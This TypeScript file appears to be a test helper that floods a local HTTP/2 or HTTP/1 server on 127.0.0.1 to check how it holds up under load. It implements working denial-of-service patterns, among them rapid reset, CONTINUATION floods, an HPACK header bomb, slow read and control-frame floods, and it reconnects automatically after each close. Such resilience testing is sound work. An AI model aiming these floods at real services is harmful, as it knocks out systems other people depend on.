/**
 * A process that floods one port until its parent goes: `flood-attacker.js <kind> <port> [file]`. The file holds a mesh
 * identity as JSON ({ cert, key }): then it attacks over mTLS. Comes back whenever its connection is closed. Tells its parent
 * "attacking" when it is at it.
 */
import { readFileSync } from "node:fs";
import net from "node:net";
import tls from "node:tls";
import {
  block,
  data,
  endStream,
  frame,
  frameFlag,
  frameType,
  get,
  headers,
  hello,
  ping,
  post,
  rst,
  settings,
  windowUpdate,
} from "./http2-frames.js";

export interface FloodKind {
  /** What a connection begins with. */
  readonly first: Buffer;
  /** What follows, as often as the connection takes it; null = that was all, the connection stays. */
  readonly next: ((turn: number) => Buffer) | null;
  /** Answers are left unread. */
  readonly isDeaf?: boolean;
  /** Breaks the connection off after the first bytes. */
  readonly isBroken?: boolean;
  /** Pauses between turns. */
  readonly pauseMs?: number;
}

const perTurn = 100;
const streams = (turn: number, make: (id: number) => Buffer): Buffer =>
  Buffer.concat(Array.from({ length: perTurn }, (_, i) => make(2 * (turn * perTurn + i) + 1)));
const many = (piece: Buffer): Buffer => Buffer.concat(Array<Buffer>(1000).fill(piece));
const hold = headers(1, { ...get, ":path": "/?ms=3000" }, endStream);
const upload = { ...post, ":path": "/bytes" };
const bomb = Buffer.concat([
  block(get),
  Buffer.from([0x40]),
  block({ bomb: "x".repeat(4000) }).subarray(1),
  Buffer.alloc(12_000, 0xbe),
]);
const said = (...frames: readonly Buffer[]): Buffer => Buffer.concat([hello, ...frames]);
/** Windows as wide as they go: only the socket holds the server back. */
const wide = [settings([4, 2 ** 31 - 1]), windowUpdate(0, 2 ** 30)];

export const floodKinds = {
  rapid_reset: {
    first: hello,
    next: (turn) => streams(turn, (id) => Buffer.concat([headers(id, get, endStream), rst(id, 8)])),
  },
  late_reset: {
    first: hello,
    // The requests of one turn are reset in the next.
    next: (turn) =>
      turn % 2 === 0
        ? streams(turn / 2, (id) => headers(id, get, endStream))
        : streams((turn - 1) / 2, (id) => rst(id, 8)),
    pauseMs: 50,
  },
  provoked_reset: {
    first: hello,
    next: (turn) => streams(turn, (id) => Buffer.concat([headers(id, get, endStream), windowUpdate(id, 0)])),
  },
  continuation: {
    first: said(frame(frameType.headers, endStream, 1, block(get))),
    next: () => many(frame(frameType.continuation, 0, 1, Buffer.alloc(100, 0x40))),
  },
  ping: { first: said(hold), next: () => many(ping()) },
  settings: { first: said(hold), next: () => many(settings([4, 100_000])) },
  empty_data: { first: said(headers(1, upload)), next: () => many(data(1, "")) },
  window_update: { first: said(hold), next: () => many(windowUpdate(1, 1)) },
  hpack_bomb: {
    first: hello,
    next: (turn) => frame(frameType.headers, endStream | frameFlag.endHeaders, 2 * turn + 1, bomb),
  },
  bad_hpack: {
    first: said(frame(frameType.headers, frameFlag.endHeaders, 1, Buffer.alloc(50, 0xff))),
    next: null,
    isBroken: true,
  },
  one_byte_frames: {
    first: hello,
    next: (turn) => {
      const id = 2 * Math.floor(turn / 10) + 1;
      const frames = many(data(id, "x"));
      return turn % 10 === 0 ? Buffer.concat([headers(id, upload), frames]) : frames;
    },
    pauseMs: 10,
  },
  slow_read: {
    first: said(
      ...wide,
      streams(0, (id) => headers(id, { ...get, ":path": "/bytes?n=1048576" }, endStream)),
    ),
    next: null,
    isDeaf: true,
  },
  http1_headers: {
    first: Buffer.from("GET / HTTP/1.1\r\nHost: a.test\r\n"),
    next: (turn) => Buffer.from(`X-${turn}: ${"x".repeat(1000)}\r\n`),
  },
  http1_resets: {
    first: Buffer.from("GET /?ms=100 HTTP/1.1\r\nHost: a.test\r\n\r\n"),
    next: null,
    isBroken: true,
  },
} as const satisfies Readonly<Record<string, FloodKind>>;

export type FloodName = keyof typeof floodKinds;

/** Between a connection that was closed and the next: a flood of connections is another matter. */
const returnMs = 100;

function attack(kind: FloodKind, port: number, identity: tls.SecureContextOptions | undefined): void {
  const target = { host: "127.0.0.1", port };
  const alpn = { ALPNProtocols: ["h2"], rejectUnauthorized: false };
  const socket =
    identity === undefined ? net.connect(target) : tls.connect({ ...target, ...identity, ...alpn });
  let turn = 0;
  const step = (): void => {
    if (socket.destroyed || kind.next === null) return;
    const again = (): void => {
      if (kind.pauseMs === undefined) setImmediate(step);
      else setTimeout(step, kind.pauseMs);
    };
    if (socket.write(kind.next(turn++))) again();
    else socket.once("drain", again);
  };
  socket.once(identity === undefined ? "connect" : "secureConnect", () => {
    socket.write(kind.first, () => {
      if (kind.isBroken === true)
        setImmediate(() => (socket instanceof tls.TLSSocket ? socket.destroy() : socket.resetAndDestroy()));
    });
    if (kind.isDeaf === true) socket.pause();
    step();
  });
  if (kind.isDeaf !== true) socket.resume();
  socket.on("error", () => undefined);
  socket.once("close", () => void setTimeout(() => attack(kind, port, identity), returnMs));
}

const [name, port, file] = process.argv.slice(2);
if (process.send !== undefined && name !== undefined && name in floodKinds) {
  process.once("disconnect", () => process.exit());
  const identity =
    file === undefined ? undefined : (JSON.parse(readFileSync(file, "utf8")) as tls.SecureContextOptions);
  attack(floodKinds[name as FloodName], Number(port), identity);
  // The first connection has been through, and this process has warmed up.
  setTimeout(() => process.send?.("attacking"), 200);
}
